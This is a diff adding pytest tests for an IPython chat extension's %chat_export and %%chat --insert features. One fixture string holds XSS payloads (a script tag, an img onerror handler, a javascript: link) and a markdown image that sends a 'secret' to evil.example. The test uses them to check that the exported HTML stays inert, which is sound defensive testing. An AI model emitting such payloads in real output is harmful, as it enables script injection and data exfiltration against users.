@@ -9,6 +9,7 @@ from __future__ import annotations
 import io
 import threading
 import time
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -930,3 +931,76 @@ def test_state_lives_in_the_one_registry(ip: InteractiveShell, fake: FakeOpenAI)
     assert "default" in registry.sessions
     assert registry.magics[ip] is chat_magics(ip)  # per shell, by the shell object itself
     assert registry.usage.rows  # the process's usage hangs off the registry too
+
+
+# -- %chat_export: the live conversation as a file ------------------------------------------------
+
+HOSTILE_ANSWER = (
+    "Sure: <script>window.pwned=1</script> <img src=x onerror=alert(1)> "
+    "![leak](https://evil.example/leak.png?q=secret) [click](javascript:alert(2))\n\n"
+    "```python\nprint('<b>code</b>')\n```"
+)
+
+
+def test_export_writes_the_live_conversation_inertly(
+    ip: InteractiveShell, fake: FakeOpenAI, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from tests.test_export import assert_inert
+
+    fake.script(Reply(text=HOSTILE_ANSWER), Reply(text="Second answer."))
+    run(ip, "%%chat\nFirst <i>question</i>\n")
+    run(ip, "%chat -s other Second question")
+    capsys.readouterr()
+    page = tmp_path / "conv.html"
+    assert run(ip, f"%chat_export {page}").success
+    assert f"conversation written to {page}" in capsys.readouterr().out
+    text = page.read_text(encoding="utf-8")
+    parsed = assert_inert(text)
+    shown = "".join(parsed.text)
+    # Nothing live, nothing lost: the hostile text shows as text, the image as its URL.
+    for seen in ("<script>window.pwned=1</script>", "<img src=x onerror=alert(1)>",
+                 "https://evil.example/leak.png?q=secret", "First <i>question</i>",
+                 "Second question", "Second answer."):
+        assert seen in shown, seen
+    md = tmp_path / "only-other.md"
+    run(ip, f"%chat_export {md} -s other")
+    body = md.read_text(encoding="utf-8")
+    assert "Second answer." in body and "First" not in body
+
+
+def test_export_mistakes_are_one_line_and_write_nothing(
+    ip: InteractiveShell, fake: FakeOpenAI, tmp_path: Path
+) -> None:
+    with pytest.raises(UsageError, match="nothing to export yet"):
+        ip.run_line_magic("chat_export", str(tmp_path / "empty.md"))
+    run(ip, "%chat hello")
+    with pytest.raises(UsageError, match=r"name the file \.md or \.html"):
+        ip.run_line_magic("chat_export", str(tmp_path / "conv.pdf"))
+    with pytest.raises(UsageError, match=r"no session named 'nope' \(sessions: default\)"):
+        ip.run_line_magic("chat_export", f"{tmp_path / 'conv.md'} -s nope")
+    with pytest.raises(UsageError, match="cannot write .*No such file or directory"):
+        ip.run_line_magic("chat_export", str(tmp_path / "missing" / "conv.md"))
+    (tmp_path / "adir.md").mkdir()
+    with pytest.raises(UsageError, match="cannot write .*Is a directory"):
+        ip.run_line_magic("chat_export", str(tmp_path / "adir.md"))
+    with pytest.raises(UsageError, match="FILE"):
+        ip.run_line_magic("chat_export", "")
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["adir.md"]
+
+
+# -- %%chat --insert, in a terminal: the next input ------------------------------------------------
+
+
+def test_insert_puts_the_first_code_block_in_the_next_input(
+    ip: InteractiveShell, fake: FakeOpenAI, capsys: pytest.CaptureFixture[str]
+) -> None:
+    fake.script(Reply(text="Like this:\n\n```python\nx = 1\nprint(x)\n```\n\nor ```\ny\n```"),
+                Reply(text="No code here."))
+    ip.rl_next_input = None
+    run(ip, "%%chat --insert\nShow me code\n")
+    assert ip.rl_next_input == "x = 1\nprint(x)"
+    ip.rl_next_input = None
+    capsys.readouterr()
+    run(ip, "%%chat --insert\nAnd prose?\n")
+    assert ip.rl_next_input is None
+    assert "--insert: the answer has no code block" in capsys.readouterr().out
